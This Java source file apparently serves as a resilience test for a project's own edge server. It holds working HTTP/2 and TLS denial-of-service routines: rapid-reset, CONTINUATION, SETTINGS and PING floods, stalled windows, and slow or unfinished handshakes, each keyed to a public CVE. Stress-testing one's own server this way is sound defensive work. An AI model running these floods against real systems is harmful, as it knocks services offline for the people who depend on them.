package org.sealkeeper.edge;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.sealkeeper.edge.Http2Connection.CONTINUATION;
import static org.sealkeeper.edge.Http2Connection.END_HEADERS;
import static org.sealkeeper.edge.Http2Connection.END_STREAM;
import static org.sealkeeper.edge.Http2Connection.HEADERS;
import static org.sealkeeper.edge.Http2Connection.PING;
import static org.sealkeeper.edge.Http2Connection.RST_STREAM;
import static org.sealkeeper.edge.Http2Connection.SETTINGS;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import javax.net.ssl.SSLSocket;

/** What a stranger does with a connection to take the appliance from others. */
public enum Attack {
    /** Requests that are given up at once (CVE-2023-44487). */
    RAPID_RESETS {
        @Override
        void go(SSLSocket socket) throws IOException {
            Http2Connection connection = listening(socket, LARGE_WINDOW);
            for (int stream = 1; ; stream += 2) {
                connection.send(HEADERS, END_STREAM | END_HEADERS, stream, Http2Connection.get(PUBLIC));
                connection.send(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
            }
        }
    },
    /** A header block that never ends (CVE-2024-27316 and its like). */
    CONTINUATIONS {
        @Override
        void go(SSLSocket socket) throws IOException {
            Http2Connection connection = listening(socket, LARGE_WINDOW);
            connection.send(HEADERS, END_STREAM, 1, Http2Connection.get(PUBLIC));
            flood(connection, Http2Connection.frame(CONTINUATION, 0, 1));
        }
    },
    /** Settings, each of which must be acknowledged (CVE-2019-9515). */
    SETTINGS_FLOOD {
        @Override
        void go(SSLSocket socket) throws IOException {
            flood(listening(socket, LARGE_WINDOW), Http2Connection.frame(SETTINGS, 0, 0));
        }
    },
    /** Pings, each of which must be answered (CVE-2019-9512). */
    PINGS {
        @Override
        void go(SSLSocket socket) throws IOException {
            flood(listening(socket, LARGE_WINDOW), Http2Connection.frame(PING, 0, 0, new byte[8]));
        }
    },
    /** Answers for which the client has no room (CVE-2019-9511, CVE-2019-9517). */
    STALLED_WINDOWS {
        @Override
        void go(SSLSocket socket) throws IOException {
            Http2Connection connection = new Http2Connection(socket, 0);
            for (int stream = 1; stream < 400; stream += 2) {
                connection.send(HEADERS, END_STREAM | END_HEADERS, stream, Http2Connection.get(LARGE));
            }
            awaitEnd(socket);
        }
    },
    /** Header blocks that go on slowly. */
    UNFINISHED_HEADERS {
        @Override
        void go(SSLSocket socket) throws IOException {
            new Http2Connection(socket, LARGE_WINDOW).send(HEADERS, END_STREAM, 1, Http2Connection.get(PUBLIC));
        }
    },
    /** Connections on which nothing is asked. */
    IDLE_CONNECTIONS {
        @Override
        void go(SSLSocket socket) throws IOException {
            socket.startHandshake();
        }
    },
    /** Handshakes that are begun and left: the beginning of a ClientHello. */
    UNFINISHED_HANDSHAKES {
        @Override
        void go(SSLSocket socket) {
            throw new IllegalStateException("this attack has no TLS");
        }

        @Override
        void go(Socket plain, SSLSocket socket) throws IOException {
            plain.getOutputStream().write(new byte[] {22, 3, 1, 2, 0, 1, 0, 1});
        }
    },
    /** Large answers, asked for one after the other on a connection that reads none. */
    UNREAD_ANSWERS {
        @Override
        void go(SSLSocket socket) throws IOException {
            byte[] requests = ("GET " + LARGE + " HTTP/1.1\r\nHost: localhost\r\n\r\n")
                    .repeat(100)
                    .getBytes(ISO_8859_1);
            while (true) {
                socket.getOutputStream().write(requests);
            }
        }
    };

    private static final String PUBLIC = "/.well-known/jwks.json";
    private static final String LARGE = "/openapi";
    private static final int LARGE_WINDOW = 1 << 20;

    /** On a connection of its own, until the server ends it; where this returns, the connection is left open. */
    abstract void go(SSLSocket socket) throws IOException;

    /** As {@link #go(SSLSocket)}, for what needs no TLS. */
    void go(Socket plain, SSLSocket socket) throws IOException {
        go(socket);
    }

    /** A client that takes what it is sent, so that nothing but the server's own bounds stops it. */
    private static Http2Connection listening(SSLSocket socket, int window) throws IOException {
        var connection = new Http2Connection(socket, window);
        Thread.ofVirtual().start(() -> {
            try {
                awaitEnd(socket);
            } catch (IOException ended) {
                // as it should
            }
        });
        return connection;
    }

    private static void awaitEnd(SSLSocket socket) throws IOException {
        socket.getInputStream().transferTo(OutputStream.nullOutputStream());
    }

    private static void flood(Http2Connection connection, byte[] frame) throws IOException {
        while (true) {
            connection.sendMany(100, frame);
        }
    }
}
